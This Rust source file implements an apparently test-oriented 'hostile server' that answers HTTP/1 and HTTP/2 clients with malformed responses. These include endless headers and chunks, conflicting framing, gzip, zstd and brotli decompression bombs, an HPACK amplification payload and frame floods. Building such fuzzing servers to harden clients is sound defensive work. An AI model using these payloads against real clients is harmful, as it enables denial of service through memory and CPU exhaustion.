//! A server that attacks whoever reads its answers.

use std::io::{self, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{JoinHandle, sleep};
use std::time::Duration;

use anyhow::{Context, Result};

use crate::bomb;
use crate::host::Host;

/// Where what has no end ends all the same, octets: the connection is closed then.
const BOUND: usize = 4 << 20;
/// How often a connection without traffic looks whether the server has ended.
const LOOK: Duration = Duration::from_millis(50);
/// What a client of HTTP/2 sends first (RFC 9113, 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A server of the lab's own. Ends, with its connections, when dropped.
///
/// The path of an HTTP/1 request names the attack; that of an HTTP/2 request does, if it is the only one
/// of its connection and stands in the header block as it is. Any other is answered with a small page.
/// The connection ends with an attack.
#[derive(Debug)]
pub struct HostileServer {
    ended: Arc<AtomicBool>,
    acceptor: Option<JoinHandle<()>>,
}

/// Attacks in HTTP/1.
pub const ATTACKS: [&str; 19] = [
    "/long-head",
    "/many-fields",
    "/endless-head",
    "/endless-interim",
    "/endless-chunks",
    "/tiny-chunks",
    "/chunk-extensions",
    "/endless-extension",
    "/endless-trailers",
    "/short-body",
    "/long-body",
    "/huge-length",
    "/two-framings",
    "/gzip",
    "/gzip-thrice",
    "/gzip-members",
    "/zstd",
    "/br",
    "/codings",
];

/// Attacks in HTTP/2.
pub const ATTACKS2: [&str; 7] = [
    "/continuations",
    "/empty-continuations",
    "/hpack",
    "/foreign-headers",
    "/endless-data",
    "/empty-data",
    "/control",
];

impl HostileServer {
    /// Listens on `port` of `host`, IPv4 and IPv6.
    ///
    /// # Errors
    /// When the port is in use.
    pub fn start(host: &Host, port: u16) -> Result<Self> {
        Self::serve(host, port, true)
    }

    /// The same, and answers whatever is asked with a small page.
    ///
    /// # Errors
    /// As [`HostileServer::start`].
    pub fn tame(host: &Host, port: u16) -> Result<Self> {
        Self::serve(host, port, false)
    }

    fn serve(host: &Host, port: u16, hostile: bool) -> Result<Self> {
        let listener = host.enter(|| TcpListener::bind(("::", port)))?.context("bind")?;
        listener.set_nonblocking(true)?;
        let ended = Arc::new(AtomicBool::new(false));
        let seen = Arc::clone(&ended);
        let acceptor = std::thread::spawn(move || accept(&listener, hostile, &seen));
        Ok(Self { ended, acceptor: Some(acceptor) })
    }
}

impl Drop for HostileServer {
    fn drop(&mut self) {
        self.ended.store(true, Ordering::Relaxed);
        if let Some(acceptor) = self.acceptor.take() {
            let _ = acceptor.join();
        }
    }
}

fn accept(listener: &TcpListener, hostile: bool, ended: &Arc<AtomicBool>) {
    let mut connections: Vec<JoinHandle<()>> = Vec::new();
    while !ended.load(Ordering::Relaxed) {
        let Ok((stream, _)) = listener.accept() else {
            sleep(Duration::from_millis(1));
            continue;
        };
        let ended = Arc::clone(ended);
        connections.retain(|connection| !connection.is_finished());
        connections.push(std::thread::spawn(move || {
            // Who does not want all of it ends the scene.
            let _ = serve(stream, hostile, &ended);
        }));
    }
    for connection in connections {
        let _ = connection.join();
    }
}

fn serve(mut stream: TcpStream, hostile: bool, ended: &AtomicBool) -> io::Result<()> {
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(LOOK))?;
    stream.set_write_timeout(Some(Duration::from_secs(10)))?;
    let mut heard = Vec::new();
    let mut piece = vec![0; 16 << 10];
    while !ended.load(Ordering::Relaxed) {
        let len = match stream.read(&mut piece) {
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock) => continue,
            len => len?,
        };
        if len == 0 {
            return Ok(());
        }
        heard.extend_from_slice(&piece[..len]);
        if heard.starts_with(PREFACE) {
            // SETTINGS, and HEADERS of stream 1 behind them: the path stands in there as it is.
            let text = String::from_utf8_lossy(&heard).into_owned();
            if let Some(attack) = ATTACKS2.iter().find(|attack| text.contains(*attack)) {
                let attack = if hostile { attack } else { "/" };
                return attack2(&mut stream, attack);
            }
        } else if heard.ends_with(b"\r\n\r\n") {
            let text = String::from_utf8_lossy(&heard).into_owned();
            let path = text.split(' ').nth(1).unwrap_or_default();
            let is_attack = ATTACKS.contains(&path);
            attack(&mut stream, if hostile { path } else { "/" })?;
            if is_attack {
                return Ok(());
            }
            heard.clear();
        }
    }
    Ok(())
}

/// Writes `unit` until [`BOUND`].
fn flood(stream: &mut TcpStream, unit: &[u8]) -> io::Result<()> {
    let many = unit.repeat((64 << 10) / unit.len().min(64 << 10));
    (0..BOUND / many.len()).try_for_each(|_| stream.write_all(&many))
}

fn attack(stream: &mut TcpStream, path: &str) -> io::Result<()> {
    const OK: &str = "HTTP/1.1 200 OK\r\n";
    const CHUNKED: &str = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
    let mut say = |text: &str| stream.write_all(text.as_bytes());
    match path {
        "/long-head" => {
            say(&format!("{OK}X: {}\r\nContent-Length: 0\r\n\r\n", "x".repeat(1 << 20)))?
        }
        "/many-fields" => {
            let fields: String = (0..10_000).map(|n| format!("X-{n}: {n}\r\n")).collect();
            say(&format!("{OK}{fields}Content-Length: 0\r\n\r\n"))?;
        }
        "/endless-head" => {
            say(OK)?;
            flood(stream, b"X-Again: and again\r\n")?;
        }
        "/endless-interim" => flood(stream, b"HTTP/1.1 100 Continue\r\n\r\n")?,
        "/endless-chunks" => {
            say(CHUNKED)?;
            let chunk = [b"10000\r\n", &[b'x'; 0x10000][..], b"\r\n"].concat();
            flood(stream, &chunk)?;
        }
        "/tiny-chunks" => {
            say(CHUNKED)?;
            flood(stream, b"1\r\nx\r\n")?;
            stream.write_all(b"0\r\n\r\n")?;
        }
        "/chunk-extensions" => {
            say(CHUNKED)?;
            flood(stream, format!("1;a={}\r\nx\r\n", "y".repeat(4_000)).as_bytes())?;
        }
        "/endless-extension" => {
            say(&format!("{CHUNKED}1;a="))?;
            flood(stream, b"y")?;
        }
        "/endless-trailers" => {
            say(&format!("{CHUNKED}0\r\n"))?;
            flood(stream, b"X-Again: and again\r\n")?;
        }
        "/short-body" => say(&format!("{OK}Content-Length: 10000\r\n\r\n{}", "x".repeat(5_000)))?,
        "/long-body" => {
            say(&format!("{OK}Content-Length: 10\r\n\r\n{}", "x".repeat(5_000)))?;
        }
        "/huge-length" => {
            say(&format!("{OK}Content-Length: 99999999999999999999999\r\n\r\nx"))?;
        }
        "/two-framings" => {
            say("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Length: 30\r\n\
                 Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n")?;
        }
        "/gzip" => return coded(stream, "gzip", bomb::gzip(&[b' '; 4 << 20])),
        "/gzip-thrice" => {
            let body = bomb::gzip(&bomb::gzip(&bomb::gzip(&[b' '; 4 << 20])));
            return coded(stream, "gzip, gzip, gzip", body);
        }
        "/gzip-members" => return coded(stream, "gzip", bomb::gzip(b"").repeat(3_000)),
        "/zstd" => return coded(stream, "zstd", bomb::zstd()),
        "/br" => return coded(stream, "br", bomb::brotli()),
        "/codings" => return coded(stream, &["gzip"; 500].join(", "), b"x".to_vec()),
        _ => {
            say(&format!("{OK}Content-Length: 2\r\n\r\nok"))?;
        }
    }
    Ok(())
}

fn coded(stream: &mut TcpStream, coding: &str, body: Vec<u8>) -> io::Result<()> {
    let len = body.len();
    let head =
        format!("HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: {len}\r\n\r\n");
    stream.write_all(&[head.as_bytes(), &body].concat())
}

// Types and flags of frames (RFC 9113, 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PUSH_PROMISE: u8 = 5;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn attack2(stream: &mut TcpStream, attack: &str) -> io::Result<()> {
    // :status 200 of the static table.
    let ok = frame(HEADERS, END_HEADERS, 1, b"\x88");
    // A literal that is not indexed: x: and so many octets (RFC 7541, 6.2.2).
    let literal = |kind: u8, len: u16| {
        let rest = len - 127;
        let len = [0x7f, (rest & 0x7f) as u8 | 0x80, (rest >> 7) as u8];
        [&[kind, 1, b'x'][..], &len, &vec![b'y'; usize::from(rest) + 127]].concat()
    };
    stream.write_all(&frame(SETTINGS, 0, 0, b""))?;
    match attack {
        "/" => stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x88")),
        "/continuations" => {
            stream.write_all(&frame(HEADERS, 0, 1, b"\x88"))?;
            flood(stream, &frame(CONTINUATION, 0, 1, &literal(0, 4_000)))
        }
        "/empty-continuations" => {
            stream.write_all(&frame(HEADERS, 0, 1, b"\x88"))?;
            flood(stream, &frame(CONTINUATION, 0, 1, b""))
        }
        "/hpack" => {
            // Put in the table, whence every octet 0xbe brings it back: 62 MiB of 16 KB.
            let block = [&[0x88][..], &literal(0x40, 4_000), &[0xbe; 12_000]].concat();
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &block))?;
            flood(stream, &frame(HEADERS, END_HEADERS, 1, &[0xbe; 12_000]))
        }
        "/foreign-headers" => {
            stream.write_all(&ok)?;
            flood(stream, &frame(HEADERS, END_HEADERS, 2, &literal(0x40, 4_000)))
        }
        "/endless-data" => {
            stream.write_all(&ok)?;
            flood(stream, &frame(DATA, 0, 1, &[b'x'; 16_000]))
        }
        "/empty-data" => {
            stream.write_all(&ok)?;
            flood(stream, &frame(DATA, 0, 1, b""))
        }
        "/control" => {
            let promise = [&2_u32.to_be_bytes()[..], &literal(0x40, 1_000)].concat();
            let frames = [
                frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
                frame(PING, 0, 0, b"12345678"),
                frame(PUSH_PROMISE, END_HEADERS, 1, &promise),
            ];
            flood(stream, &frames.concat())
        }
        other => Err(io::Error::other(format!("no attack {other}"))),
    }
}
